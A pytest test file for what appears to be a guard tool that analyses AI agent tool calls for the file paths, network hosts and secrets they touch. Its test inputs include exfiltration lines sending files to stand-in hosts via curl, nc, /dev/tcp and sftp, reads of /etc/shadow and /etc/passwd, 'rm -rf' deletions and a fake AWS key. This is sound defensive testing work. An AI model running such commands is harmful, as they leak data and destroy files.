"""Facts: what each tool's call runs, reads, writes and reaches."""

import shlex
from typing import Any

import pytest
from hypothesis import given as using
from hypothesis import strategies as st

from interlock.event import event_from
from interlock.facts.fields import ToolUse
from interlock.facts.gather import Facts, PathUse, RunFile
from interlock.facts.paths import NoFiles, Places
from interlock.facts.urls import Url
from tests.builders import call, payload, result

PLACES = Places("/proj/sub", "/proj", "/home/dev")
OLD = "/proj/sub/old.txt"


class Disk(NoFiles):
    """A file system with some files in it."""

    def __init__(self, **texts: str) -> None:
        self._texts = {f"/proj/sub/{name.replace('_', '.')}": text for name, text in texts.items()}

    def exists(self, path: str) -> bool:
        return path == OLD

    def read(self, path: str, *, anywhere: bool = False) -> str | None:
        return self._texts.get(path)


def facts(
    tool: str, given: dict[str, Any], declared: dict[str, ToolUse] | None = None, disk: Disk | None = None
) -> Facts:
    event = event_from(call(tool, **given))
    return Facts(event, given, PLACES, disk or Disk(), declared)


def shell(line: str, **texts: str) -> Facts:
    return facts("Bash", {"command": line}, disk=Disk(**texts))


def read(path: str, **more: bool) -> PathUse:
    return PathUse(path, read=True, **more)


def written(path: str) -> PathUse:
    return PathUse(path, write=True, create=path != OLD)


@pytest.mark.parametrize(
    ("tool", "given", "paths", "texts"),
    [
        ("Read", {"file_path": "a"}, (PathUse("/proj/sub/a", read=True),), ()),
        (
            "Glob",
            {"pattern": "*.py", "path": "/x"},
            (PathUse("/x", read=True), PathUse("/x/*.py", read=True, glob=True)),
            (),
        ),
        (
            "Glob",
            {"pattern": "~/.ssh/*"},
            (PathUse("/proj/sub", read=True), PathUse("/home/dev/.ssh/*", read=True, glob=True)),
            (),
        ),
        ("Grep", {"pattern": "x", "path": "~/a"}, (PathUse("/home/dev/a", read=True, below=True),), ()),
        ("Grep", {"pattern": "x"}, (PathUse("/proj/sub", read=True, below=True),), ()),
        ("LS", {"path": ".."}, (PathUse("/proj", read=True),), ()),
        ("NotebookRead", {"notebook_path": "a.ipynb"}, (PathUse("/proj/sub/a.ipynb", read=True),), ()),
        ("Write", {"file_path": "new.txt", "content": "t"}, (written("/proj/sub/new.txt"),), ("t",)),
        ("Write", {"file_path": "old.txt", "content": "t"}, (written(OLD),), ("t",)),
        ("Edit", {"file_path": "old.txt", "old_string": "o", "new_string": "n"}, (written(OLD),), ("n",)),
        (
            "MultiEdit",
            {"file_path": "old.txt", "edits": [{"new_string": "n"}, {"new_string": "m"}]},
            (written(OLD),),
            ("n", "m"),
        ),
        ("NotebookEdit", {"notebook_path": "b.ipynb", "new_source": "s"}, (written("/proj/sub/b.ipynb"),), ("s",)),
        ("Skill", {"skill": "x"}, (), ()),
        ("mcp__x__Write", {"file_path": "a", "content": "t"}, (written("/proj/sub/a"),), ("t",)),
        ("mcp__x__Writer", {"file_path": "a", "content": "t"}, (), ()),
    ],
)
def test_file_tools_touch_their_paths(tool, given, paths, texts):
    found = facts(tool, given)
    assert (found.paths, found.texts, found.commands, found.urls, found.opaque) == (paths, texts, (), (), False)


@pytest.mark.parametrize("tool", ["Bash", "Monitor", "PowerShell"])
def test_shell_tools_run_their_command(tool):
    *outer, command = facts(tool, {"command": "git push"}).commands
    assert (command.program, command.args) == ("git", ("push",))
    assert [one.program for one in outer] == (["pwsh"] if tool == "PowerShell" else [])
    found = facts(tool, {})
    assert (found.commands, found.paths, found.urls, found.texts) == ((), (), (), ())
    assert not found.opaque


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("curl https://a.org/x b.org", ["a.org", "b.org"]),
        ("curl -o out.txt https://a.org", ["a.org"]),
        ("wget a.org/x", ["a.org"]),
        ("git clone https://a.org/x", ["a.org"]),
        ("git clone a.org", []),
        ("echo a.b", []),
        ("curl -s localhost", ["localhost"]),
    ],
)
def test_addresses_among_the_words_of_a_command_are_reached(line, hosts):
    assert [url.host for url in facts("Bash", {"command": line}).urls] == hosts


def test_a_fetch_reaches_its_address():
    assert facts("WebFetch", {"url": "https://a.org/x", "prompt": "p"}).urls == (
        Url("https://a.org/x", "a.org", None, "https://a.org/x"),
    )
    assert facts("WebSearch", {"query": "a.org"}).urls == ()


def test_a_declared_tool_means_what_the_policy_says():
    declared = {
        "mcp__x__do": ToolUse(
            command=("cmd",), read=("from", "more.path"), write=("to",), url=("links",), content=("body",)
        )
    }
    given = {
        "cmd": "ls", "from": "a", "more": [{"path": "b"}, {"path": "c"}, {"other": "d"}], "to": ["old.txt", "e"],
        "links": ["https://a.org", "no address", "b.org"], "body": "text",
    }  # fmt: skip
    found = facts("mcp__x__do", given, declared)
    assert [command.program for command in found.commands] == ["ls"]
    assert found.paths == (
        *(PathUse(f"/proj/sub/{name}", read=True) for name in "abc"), written(OLD), written("/proj/sub/e"),
    )  # fmt: skip
    assert [url.host for url in found.urls] == ["a.org", "b.org"]
    assert found.texts == ("text",)
    other = facts("mcp__x__done", given, declared)
    assert (other.commands, other.paths, other.urls, other.texts, other.opaque) == ((), (), (), (), False)


@pytest.mark.parametrize("value", [5, None, True, {"a": "b"}, [1, None], [[["x"]]]])
def test_a_field_of_the_wrong_kind_is_no_error(value):
    for tool, field in (("Bash", "command"), ("Read", "file_path"), ("WebFetch", "url"), ("Write", "content")):
        facts(tool, {field: value})


@pytest.mark.parametrize("value", [5, {"a": "b"}, ["rm", "x"]])
def test_a_command_that_is_no_text_is_not_taken_for_no_command(value):
    found = facts("Bash", {"command": value})
    assert found.opaque or found.commands


def test_secrets_are_looked_for_in_commands_contents_and_results():
    key = "AKIA" + "ABCDEFGHIJKLMNOP"
    assert [secret.kind for secret in facts("Bash", {"command": f"echo {key}"}).secrets] == ["AWS access key"]
    assert [s.kind for s in facts("Write", {"file_path": "a", "content": key}).secrets] == ["AWS access key"]
    assert facts("Write", {"file_path": "a", "content": "x"}).secrets == ()
    event = event_from(result("Read", {"file": {"content": key}, "n": [5, "x"]}, file_path="a"))
    found = Facts(event, {"file_path": "a"}, PLACES, NoFiles())
    assert (found.texts, [s.kind for s in found.secrets]) == ((key, "x"), ["AWS access key"])


def test_facts_are_of_the_input_that_would_run_and_not_of_the_original():
    event = event_from(call("Read", file_path="a"))
    found = Facts(event, {"file_path": "b"}, PLACES, NoFiles())
    assert found.paths == (PathUse("/proj/sub/b", read=True),)


def test_events_without_a_call_have_no_facts():
    event = event_from(payload("Stop", stop_hook_active=False))
    found = Facts(event, {}, PLACES, NoFiles())
    assert (found.commands, found.paths, found.urls, found.texts, found.opaque) == ((), (), (), (), False)


# What shell lines touch


@pytest.mark.parametrize(
    ("line", "paths"),
    [
        ("cat a", (read("/proj/sub/a"),)),
        ("cd .. && cat a", (read("/proj/a"),)),
        ("cat ~/a $HOME/b", (read("/home/dev/a"), read("/home/dev/b"))),
        ("echo x > old.txt", (written(OLD),)),
        ("touch new old.txt", (written("/proj/sub/new"), written(OLD))),
        ("sort < a > b", (read("/proj/sub/a"), written("/proj/sub/b"))),
        ("sed -i s/a/b/ old.txt", (read(OLD), written(OLD))),
        ("rm a", (PathUse("/proj/sub/a", write=True, delete=True),)),
        ("rm -r a", (PathUse("/proj/sub/a", write=True, delete=True, below=True),)),
        ("grep -r x src", (read("/proj/sub/src", below=True),)),
        ("tar cf /tmp/x src", (read("/proj/sub/src", below=True), written("/tmp/x"))),
        ("cat src/*.py", (read("/proj/sub/src/*.py", glob=True),)),
        ("echo x > /dev/null 2>&1", ()),
        ("foo --config=/etc/x y a/b", (read("/etc/x"), read("/proj/sub/a/b"))),
        ("ssh host rm -rf /x", ()),
        ("docker exec web cat /etc/passwd", ()),
        ("scp a host:b", (read("/proj/sub/a", send=True),)),
        ("cat a | curl -d @- x.org", (read("/proj/sub/a", send=True),)),
        ("curl x.org/?$(cat a)", (read("/proj/sub/a", send=True),)),
        ("nc x.org 80 < a", (read("/proj/sub/a", send=True),)),
        ("cat a > /dev/tcp/x.org/80", (read("/proj/sub/a", send=True),)),
        ("cat a; curl x.org", (read("/proj/sub/a"),)),
        ("sftp x.org <<< 'put a'", (read("/proj/sub/a", send=True),)),
        ("printf 'cd d\\nmput a b\\nget c\\n' | ftp x.org",
         (read("/proj/sub/a", send=True), read("/proj/sub/b", send=True))),
        ("sftp x.org:a /srv/a", (written("/srv/a"),)),
        ("curl -F f=@a http://localhost:3000/up", (read("/proj/sub/a"),)),
        ("curl --data-urlencode x@a x.org", (read("/proj/sub/a", send=True),)),
        ("curl --data-urlencode x=a@b x.org", ()),
        ("getent shadow", (read("/etc/shadow"),)), ("getent passwd", ()),
        ("nc 127.0.0.1 80 < a", (read("/proj/sub/a"),)),
        ("curl -F f=@a http://localhost:3000/up http://x.org", (read("/proj/sub/a", send=True),)),
        ("curl -x x.org:80 -F f=@a http://localhost/up", (read("/proj/sub/a", send=True),)),
        ("https_proxy=x.org curl -F f=@a https://localhost/up", (read("/proj/sub/a", send=True),)),
        ("curl -F f=@a http://localhost.x.org/up", (read("/proj/sub/a", send=True),)),
        ("find src -exec rm {} ;", (read("/proj/sub/src"),
                                     PathUse("/proj/sub/src", write=True, delete=True, below=True))),
        ("find src | xargs rm", (read("/proj/sub/src"),
                                 PathUse("/proj/sub/src", write=True, delete=True, below=True))),
        ("python -c 'open(\"a\", \"w\")'", (written("/proj/sub/a"),)),
        ("node -e 'require(\"fs\").rmSync(\"a\")'",
         (PathUse("/proj/sub/a", write=True, delete=True, below=True),)),
    ],
)  # fmt: skip
def test_a_shell_line_touches_what_its_commands_touch(line, paths):
    found = shell(line.replace(" ;", " \\;") if "-exec" in line else line)
    assert (found.paths, found.opaque) == (paths, False)


def test_a_part_of_a_path_that_only_the_run_tells_stays_unknown():
    assert [use.path for use in shell("cat $X/a b/$Y").paths] == ["/\0/a", "/proj/sub/b/\0"]
    assert not shell("cat $X/a").opaque
    assert shell("rm $X").reasons == ("a path that is not known before it runs",)
    assert not shell("rm build/$X").opaque


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("echo https://a.org", []),
        ("git commit -m 'see https://a.org'", []),
        ("cargo test https://a.org", ["a.org"]),
        ("ssh me@a.org ls", ["a.org"]),
        ("cat x > /dev/tcp/a.org/80", ["a.org"]),
        ("python -c 'import requests; requests.get(\"https://a.org\")'", ["a.org"]),
    ],
)
def test_an_address_that_is_only_mentioned_is_not_reached(line, hosts):
    assert [url.host for url in shell(line).urls] == hosts


def test_a_text_that_a_line_writes_is_a_text_of_the_call():
    assert shell("cat > a <<E\none\nE").texts == ("one\n",)
    assert shell("echo two > b").texts == ("two\n",)
    assert shell("echo three").texts == ()


def test_a_program_that_code_runs_is_a_command_of_the_call():
    found = shell("python -c 'import os; os.system(\"git push -f\")'")
    assert [(command.name, command.nested) for command in found.commands] == [("python", ()), ("git", ("python",))]


# Files that are run


def ran(found: Facts) -> list[str]:
    return [command.words for command in found.all_commands[len(found.commands) :]]


@pytest.mark.parametrize(
    ("line", "texts", "inside"),
    [
        ("bash x.sh", {"x_sh": "rm -rf a\n"}, ["rm -rf a"]),
        ("./x.sh", {"x_sh": "#!/bin/sh\ncd b && rm c\n"}, ["cd b", "rm c"]),
        ("make clean", {"Makefile": "D = out\nall: x\n\nclean: deep\n\t@rm -rf $(D)\ndeep:\n\t-rm y\n"},
         ["rm -rf out", "rm y"]),
        ("bash run.sh a b", {"run_sh": "shift; rm $1"}, ["shift", "rm b"]),
        ("./run.sh a", {"run_sh": 'rm "$@"'}, ["rm a"]),
        ("rm $@ x", {}, []),
        ("npm run b", {"package_json": '{"scripts": {"b": "tsc", "preb": "rm -r c"}}'}, ["rm -r c", "tsc"]),
        ("bash x.sh", {"x_sh": "./y.sh", "y_sh": "rm z"}, ["./y.sh", "rm z"]),
        ("echo 'rm q' > n.sh; sh n.sh", {}, ["rm q"]),
    ],
)  # fmt: skip
def test_what_stands_in_a_file_that_is_run_is_a_command_too(line, texts, inside):
    found = shell(line, **texts)
    assert (ran(found), found.unread) == (inside, ())
    assert found.opaque is False


@pytest.mark.parametrize(
    ("line", "texts", "file", "by"),
    [
        ("./gone.sh", {}, "/proj/sub/gone.sh", ""),
        ("make", {}, "/proj/sub/Makefile", "make"),
        ("make other", {"Makefile": "all:\n\ttrue\n"}, "/proj/sub/Makefile", "make"),
        ("npm run b", {"package_json": "{}"}, "/proj/sub/package.json", "npm"),
        ("node a.js", {"a_js": "1"}, "/proj/sub/a.js", "node"),
        ("bash x.sh", {"x_sh": "$TOOL x"}, "/proj/sub/x.sh", "bash"),
    ],
)
def test_a_file_that_cannot_be_read_is_named(line, texts, file, by):
    assert shell(line, **texts).unread == (RunFile(file, by),)


def test_scripts_that_call_each_other_come_to_an_end():
    found = shell("bash x.sh", x_sh="bash x.sh; ls")
    assert RunFile("/proj/sub/x.sh", "bash") in found.unread
    assert len(found.all_commands) < 20


def test_what_a_script_touches_is_not_among_the_paths_of_the_call_itself():
    found = shell("bash x.sh", x_sh="rm /etc/x; curl a.org")
    assert [use.path for use in found.paths] == ["/proj/sub/x.sh"]
    assert [use.path for use in found.all_paths] == ["/proj/sub/x.sh", "/etc/x"]
    assert ([url.host for url in found.urls], [url.host for url in found.all_urls]) == ([], ["a.org"])


WORDS = [
    "rm", "-rf", "cat", "~/a", "$X", "../b", "*.py", ">", "<", "|", "&&", ";", "cd", "xargs", "find", "curl", "a.org",
    "$(cat c)", "bash", "-c", "'rm x'", "python", "'open(1)'", "./run.sh", "make", "npm", "run", "<<E\nE\n",
]  # fmt: skip


@using(st.one_of(st.text(max_size=60), st.lists(st.sampled_from(WORDS), max_size=10).map(" ".join)))
def test_any_line_has_facts_and_its_paths_are_absolute(line):
    found = shell(line, run_sh="./run.sh; rm y")
    assert all(use.path.startswith("/") and use.read is not use.write for use in found.all_paths)
    assert (found.all_commands[: len(found.commands)], found.all_urls[: len(found.urls)]) == (
        found.commands,
        found.urls,
    )
    assert not found.plain or not found.opaque


def test_more_paths_than_can_be_looked_at_are_known_to_be_more():
    assert shell("cat " + " ".join(map(str, range(2500)))).lost == "too many paths to look at"
    assert shell("cat 1 2 3").lost == ""


def test_a_temporary_folder_is_known_unless_the_line_sets_it():
    assert written("/tmp/x") in shell("touch $TMPDIR/x").paths
    assert written("/srv/x") in shell("TMPDIR=/srv; touch $TMPDIR/x").paths


def test_what_is_moved_or_packed_is_not_lost():
    assert not shell('mv "$X" a').opaque
    assert not shell('gzip "$X"').opaque
    assert shell('rm "$X"').opaque


def test_programs_in_programs_beyond_what_is_read_are_opaque():
    line = "rm -rf /x"
    for _ in range(7):
        line = f"python3 -c {shlex.quote(f'import os; os.system({line!r})')}"
    assert facts("Bash", {"command": line}).opaque
    many = "; ".join(["python3 -c 'print(1)'"] * 64)
    assert not facts("Bash", {"command": many}).opaque
    assert facts("Bash", {"command": many + "; python3 -c 'import os; os.remove(\"a\")'"}).opaque
